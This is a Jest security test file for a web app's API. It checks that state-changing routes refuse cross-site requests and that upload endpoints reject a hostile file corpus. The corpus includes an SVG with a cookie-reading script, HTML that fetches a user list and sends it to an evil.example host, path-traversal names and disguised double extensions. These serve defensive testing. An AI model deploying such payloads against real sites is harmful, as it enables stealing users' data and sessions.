/**
 * Cross-site request refusal on every state-changing route of the app (read from Express's router,
 * so a new route is covered the day it is added), and an upload corpus against every upload
 * endpoint: wrong magic bytes, HTML named .pdf / .txt, SVG with script named .png, `../` names,
 * double extensions and a 51 MB file streamed over a real socket. 0 accepted, nothing stored.
 */
import { readdirSync, statSync } from 'node:fs';
import path from 'node:path';
import type { AddressInfo } from 'node:net';
import type { Server } from 'node:http';
import { samplePng } from '@grain/adapters/testing';
import { createStores } from '@grain/persistence';
import { TEST_ORIGIN } from '../api/src/testing/session';
import { appRoutes, isStateChanging } from './support/routes';
import { changedTables, dbSnapshot } from './support/db-checksum';
import { streamUpload } from './support/stream-upload';
import { concretePath, PDF_BYTES, startWorld, type World } from './support/world';
import { listen } from '../api/src/http/listen';

jest.setTimeout(300_000);

let w: World;
beforeAll(async () => {
  // with the worker: the corrective action the evidence uploads go to is made through its workflow
  w = await startWorld();
  await w.settle();
});
afterAll(() => w?.close());

function filesUnder(dir: string): number {
  let n = 0;
  for (const e of readdirSync(dir, { withFileTypes: true }))
    n += e.isDirectory() ? filesUnder(path.join(dir, e.name)) : statSync(path.join(dir, e.name)).size > 0 ? 1 : 0;
  return n;
}

describe('cross-site requests', () => {
  const EVIL = 'https://grain-cert.evil.example';
  const attacks: Array<[string, Record<string, string>]> = [
    ['Origin of another site', { Origin: EVIL }],
    ['Sec-Fetch-Site cross-site', { 'Sec-Fetch-Site': 'cross-site', Origin: TEST_ORIGIN }],
    ['Referer of another site, no Origin', { Referer: `${EVIL}/form.html` }],
    ['no Origin, Referer or Sec-Fetch-Site', {}],
    ['Origin "null" (sandboxed frame)', { Origin: 'null' }],
  ];

  it('refuses every state-changing route with 403 CROSS_SITE and changes nothing', async () => {
    const routes = appRoutes(w.t.app).filter(isStateChanging);
    expect(routes.length).toBeGreaterThan(40);
    const before = await dbSnapshot(w.t.db.knex);
    const logged = Number((await w.t.db.knex('auth_events').where({ kind: 'cross_site' }).count({ n: '*' }))[0].n);
    const wrong: string[] = [];
    let sent = 0;
    for (const r of routes) {
      for (const [label, headers] of attacks) {
        // The admin's session cookie rides along, as a browser would send it.
        let req = w.agents.admin[r.method.toLowerCase() as 'post' | 'put' | 'delete'](concretePath(w, r.path));
        req = req.unset('Origin');
        for (const [k, v] of Object.entries(headers)) req = req.set(k, v);
        const res = await req.send({ name: 'x', approvalName: 'x', password: 'Harvest#2025', email: 'x@y.test', otp: '123456' });
        sent++;
        if (res.status !== 403 || res.body.code !== 'CROSS_SITE')
          wrong.push(`${r.method} ${r.path} (${label}): ${res.status} ${JSON.stringify(res.body).slice(0, 120)}`);
      }
    }
    expect(wrong).toEqual([]);
    expect(changedTables(before, await dbSnapshot(w.t.db.knex))).toEqual([]);
    expect((await w.agents.admin.get('/api/auth/current_user')).status).toBe(200); // the logout attempts did not end the session
    const after = Number((await w.t.db.knex('auth_events').where({ kind: 'cross_site' }).count({ n: '*' }))[0].n);
    expect(after - logged).toBe(sent);
  });

  it('lets the same request through from the app itself (the guard is what refused)', async () => {
    const res = await w.agents.admin
      .post('/api/company/approvaltemplate/create')
      .send({ approvalName: 'Same-site', approvalLevels: [{ group: 'G', signers: [], signatures: 1 }] });
    expect(res.status).toBe(201);
  });
});

describe('upload corpus', () => {
  const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="640" height="480"><script>alert(document.cookie)</script></svg>');
  const HTML = Buffer.from(
    '<!doctype html><html><body><script>fetch("/api/company/users").then(r=>r.text()).then(t=>location="https://evil.example/?"+t)</script></body></html>',
  );
  const PNG = samplePng(640, 480, 99);
  const CORPUS: Array<[string, string, Buffer]> = [
    ['wrong magic bytes', 'lab-report.pdf', Buffer.from('hello, this is not a PDF at all\n')],
    ['PNG bytes named .pdf', 'lab-report.pdf', PNG],
    ['PDF bytes named .png', 'grain.png', PDF_BYTES],
    ['HTML named .pdf', 'lab-report.pdf', HTML],
    ['HTML named .txt', 'notes.txt', HTML],
    ['HTML named .csv', 'harvest.csv', HTML],
    ['SVG with script named .png', 'grain.png', SVG],
    ['../ name (pdf)', '../../etc/lab-report.pdf', PDF_BYTES],
    ['..\\ name (pdf)', '..\\..\\lab-report.pdf', PDF_BYTES],
    ['../ name (png)', '../grain.png', PNG],
    [
      '../ name (csv)',
      '../harvest.csv',
      Buffer.from('item,grainType,harvestGrade,storageLocation,quantity,protein,moisture,productionDate\n1,Wheat,APH,Silo A1,1200,13.1,10.2,01/11/2025\n'),
    ],
    ['double extension .exe.pdf', 'invoice.exe.pdf', PDF_BYTES],
    ['double extension .pdf.html', 'lab-report.pdf.html', HTML],
    ['double extension .svg.png', 'grain.svg.png', PNG],
    ['double extension .php.csv', 'harvest.php.csv', Buffer.from('a,b\n1,2\n')],
  ];
  interface Target {
    name: string;
    url: () => string;
    fields?: () => Record<string, string>;
    verifier?: boolean;
    /** Who uploads (default the admin): evidence is taken only from the action's owner. */
    as?: 'staff';
  }
  let unverified: string;
  const TARGETS: Target[] = [
    { name: 'document create', url: () => '/api/company/document/create', fields: () => ({ docType: 'certificate' }) },
    { name: 'document update', url: () => `/api/company/document/${w.own.documentId}/update`, fields: () => ({ version: '1' }) },
    ...['establishment', 'haccp-plan', 'management-plan', 'pest-control'].map((seg) => ({
      name: `compliance ${seg}`,
      url: () => `/openai/${seg}/${w.own.complianceId}/upload`,
    })),
    { name: 'farm CSV', url: () => '/api/farmdata/harvesting/upload' },
    { name: 'grain photo', url: () => '/api/farmdata/verification/upload', fields: () => ({ farm_data_id: unverified }), verifier: true },
    // the world's action is the staff member's and in progress: the owner's upload reaches the file checks
    { name: 'corrective-action evidence', url: () => `/api/corrective-actions/${w.own.actionId}/evidence`, as: 'staff' },
  ];

  let server: Server;
  beforeAll(async () => {
    unverified = (
      await createStores(w.t.db.knex).farmData.create(w.own.companyId, w.own.co.users.admin.id, {
        grainType: 'Wheat',
        harvestGrade: 'APH',
        storageLocation: 'Silo 9',
        quantity: 10,
        protein: 12,
        moisture: 10,
        productionDate: '2025-03-01',
        dataType: 'Manual',
      })
    )._id;
    server = await listen(w.t.app, 0);
  });
  afterAll(() => new Promise((r) => server.close(r)));

  /** Refusals that say nothing about the file. */
  const NOT_THE_FILE = ['UNAUTHENTICATED', 'ACCESS_DENIED', 'NOT_FOUND', 'CONFLICT', 'ACTION_NOT_OWNER', 'ACTION_WRONG_STATE', 'ACTION_CLOSED'];

  /** Accepted: a 2xx answer, except the verifier, which answers its result and accepts only a verified photo. */
  const accepted = (t: Target, res: { status: number; body: any }) =>
    t.verifier ? res.status < 300 && res.body['verification result']?.[0]?.verified === true : res.status < 300;

  it('accepts none of the corpus and stores nothing', async () => {
    const k = w.t.db.knex;
    const before = await dbSnapshot(k);
    const files = filesUnder(w.t.deps.config.dataDir);
    const farmRows = Number((await k('farm_data').count({ n: '*' }))[0].n);
    const taken: string[] = [];
    const unjudged: string[] = [];
    for (const t of TARGETS) {
      for (const [label, name, data] of CORPUS) {
        let req = w.agents[t.as ?? 'admin'].post(t.url());
        for (const [f, v] of Object.entries(t.fields?.() ?? {})) req = req.field(f, v);
        // filepath, not filename: form-data would cut a filename down to its basename on the client.
        const res = await req.attach('file', data, { filepath: name, contentType: 'application/octet-stream' } as never);
        if (accepted(t, res) || res.status >= 500) taken.push(`${t.name} took ${label} (${name}): ${res.status} ${JSON.stringify(res.body).slice(0, 160)}`);
        if (NOT_THE_FILE.includes(res.body?.code)) unjudged.push(`${t.name}, ${label}: ${res.body.code}`);
      }
    }
    expect(taken).toEqual([]);
    // each refusal is the file's: none is refused for who sends it or the state of what it is for
    expect(unjudged).toEqual([]);
    // The verifier records each refused check as the record's result (never a verified one); nothing
    // else changes, and no farm record is added.
    expect(changedTables(before, await dbSnapshot(k)).filter((x) => x !== 'farm_image_verifications' && x !== 'farm_data')).toEqual([]);
    expect(await k('farm_image_verifications').where({ farm_data_id: unverified }).whereNot({ status: 'rejected' })).toHaveLength(0);
    expect((await k('farm_data').where({ id: unverified }).first()).image_validation).not.toBe('Verified');
    expect(Number((await k('farm_data').count({ n: '*' }))[0].n)).toBe(farmRows);
    expect(filesUnder(w.t.deps.config.dataDir)).toBe(files);
  });

  it('refuses a 51 MB upload at every endpoint, streamed, with 413 and nothing stored', async () => {
    const k = w.t.db.knex;
    const before = await dbSnapshot(k);
    const files = filesUnder(w.t.deps.config.dataDir);
    const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    const cookies = { admin: await w.login(w.own.co, 'admin'), staff: await w.login(w.own.co, 'staff') };
    const answers: string[] = [];
    for (const t of TARGETS) {
      const cookie = cookies[t.as ?? 'admin'].jar.getCookie('grain_sid', { domain: '127.0.0.1', path: '/', secure: false, script: false } as never);
      const ext = t.name === 'farm CSV' ? 'csv' : t.verifier ? 'png' : 'pdf';
      const res = await streamUpload({
        url: base + t.url(),
        headers: { origin: TEST_ORIGIN, cookie: `grain_sid=${cookie!.value}` },
        field: 'file',
        fileName: `big.${ext}`,
        size: 51 * 1024 * 1024,
        fields: t.fields?.(),
        head: ext === 'pdf' ? PDF_BYTES : ext === 'png' ? PNG : undefined,
      });
      answers.push(`${t.name}: ${res.status} ${res.body?.code}`);
    }
    expect(answers).toEqual(TARGETS.map((t) => `${t.name}: 413 FILE_TOO_LARGE`));
    expect(changedTables(before, await dbSnapshot(k))).toEqual([]);
    expect(filesUnder(w.t.deps.config.dataDir)).toBe(files);
  });
});
